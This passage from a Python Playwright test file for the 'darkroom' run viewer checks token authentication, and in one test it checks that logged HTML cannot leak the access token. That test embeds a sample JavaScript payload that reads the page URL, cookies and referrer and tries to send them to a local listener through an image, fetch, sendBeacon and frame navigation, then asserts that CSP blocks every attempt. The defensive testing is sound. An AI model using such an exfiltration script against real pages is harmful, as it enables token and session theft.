        urllib.request.urlopen(f"{base}/api/runs", timeout=10)
    assert refused.value.code == 401
    response = page.goto(f"{base}/")
    assert response.status == 401 and "token" in page.content()
    # With the token in the URL the page works, images included.
    open_run(page, base, logged["path"], token=TOKEN)
    ready(page, "section.media-panel[data-key='scene'] canvas.image-canvas")
    assert page.locator("section.media-panel[data-key='broken'] [role=alert]").count() == 1


LEAK_HTML = """<p id="out">not run</p><script>
const out = [];
out.push("href:" + location.href);
try { out.push("cookie:" + document.cookie); } catch (e) { out.push("cookie:" + e.name); }
out.push("referrer:" + document.referrer);
const leak = "http://127.0.0.1:PORT/leak?" + encodeURIComponent(location.href + " " + document.referrer);
const img = new Promise((resolve) => {
  const i = new Image();
  i.onload = () => resolve("img:loaded");
  i.onerror = () => resolve("img:error");
  i.src = leak + "&via=img";
});
const sent = fetch(leak + "&via=fetch", { mode: "no-cors" }).then(() => "fetch:sent", (e) => "fetch:" + e.name);
try { out.push("beacon:" + navigator.sendBeacon(leak + "&via=beacon", "x")); } catch (e) { out.push("beacon:" + e.name); }
Promise.all([img, sent]).then((r) => {
  out.push(...r, "done");
  document.getElementById("out").textContent = out.join(" ");
});
</script>"""


class _Listener(http.server.ThreadingHTTPServer):
    """An HTTP server on 127.0.0.1 that records every request it gets (the stolen token would arrive here)."""

    def __init__(self) -> None:
        self.received: list[str] = []
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self) -> None:
                listener.received.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST = _record

            def log_message(self, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()


def test_item_13_logged_html_cannot_read_the_token_or_reach_any_origin(page, ui_server, embedded_env):
    """Issue 16, item 13: the token was in the iframe's URL, and a listener on 127.0.0.1 received it."""
    listener = _Listener()
    console: list[str] = []  # the browser reports each request it refuses here
    page.on("console", lambda m: console.append(m.text))
    try:
        run = darkroom.init(project="viewer", name="attack")
        run.log({"page": darkroom.Html(LEAK_HTML.replace("PORT", str(listener.server_address[1])), inject=False)})
        run.finish(quiet=True)
        base = ui_server(embedded_env["DARKROOM_STORAGE_URL"], token=TOKEN)
        page.goto(run_url(base, run.path, TOKEN))
        frame = page.locator("section.media-panel[data-key='page'] iframe")
        frame.wait_for()
        out = page.frame_locator("section.media-panel[data-key='page'] iframe").locator("#out")
        # The script writes its findings once its image and its fetch have both settled:
        # a request that reached the listener was received before either settled.
        out.filter(has_text="done").wait_for(timeout=15_000)
        text = out.inner_text()
        assert TOKEN not in text and TOKEN not in (frame.get_attribute("src") or ""), text
        assert "cookie:SecurityError" in text, text
        assert "fetch:TypeError" in text and "img:error" in text, text
        # Each attempt was refused by the file's CSP before it left (a beacon is sent later, if at all).
        for via in ("via=fetch", "via=img", "via=beacon"):
            _wait_for_console(page, console, via, "violates the following Content Security Policy")
        # Last, the logged page navigates its own frame to the listener: the viewer page's
        # frame-src refuses that before any request leaves.
        logged_page = frame.element_handle().content_frame()
        logged_page.evaluate("(port) => { location.href = `http://127.0.0.1:${port}/leak?via=navigation`; }",
                             listener.server_address[1])
        _wait_for_console(page, console, f"Framing 'http://127.0.0.1:{listener.server_address[1]}/'", "frame-src")
    finally:
        listener.shutdown()
        listener.server_close()
    assert listener.received == [], listener.received


def _wait_for_console(page, console: list[str], *parts: str) -> None:
    """Return once a console message holding every one of `parts` was logged (15 s at most)."""
    if not any(all(p in text for p in parts) for text in console):
        page.wait_for_event("console", lambda m: all(p in m.text for p in parts), timeout=15_000)


# -- the demo, and the README's picture ------------------------------------------------------------------------


def test_the_demos_run_page_shows_every_panel_with_no_failed_item(page, ui_server, embedded_env):
    from darkroom._demo import run_demo

    run = run_demo(steps=12, every=3)
    run.finish(quiet=True)
    open_run(page, ui_server(embedded_env["DARKROOM_STORAGE_URL"]), run.path)
    keys = set(darkroom.Api().run(run.path).summary)
    media_keys = {k for k in keys if k not in ("loss", "lr", "weights", "final_loss")}
    for key in media_keys:
        page.wait_for_selector(f"section.media-panel[data-key='{key}'] .step-view[data-painted]")
    assert page.locator("figure[data-status='failed']").count() == 0
    assert page.locator("section.histogram-panel[data-key='weights']").count() == 1
    # The README's picture (docs/img/viewer.png is a copy): the top of the page, then all of it.
    SHOTS.mkdir(parents=True, exist_ok=True)
    examples = page.locator("section.media-panel[data-key='examples']").bounding_box()
    page.set_viewport_size({"width": 1280, "height": int(examples["y"] + examples["height"]) + 16})
    page.evaluate("() => window.scrollTo(0, 0)")
    page.screenshot(path=str(SHOTS / "run-page.png"))
    page.screenshot(path=str(SHOTS / "run-page-full.png"), full_page=True)
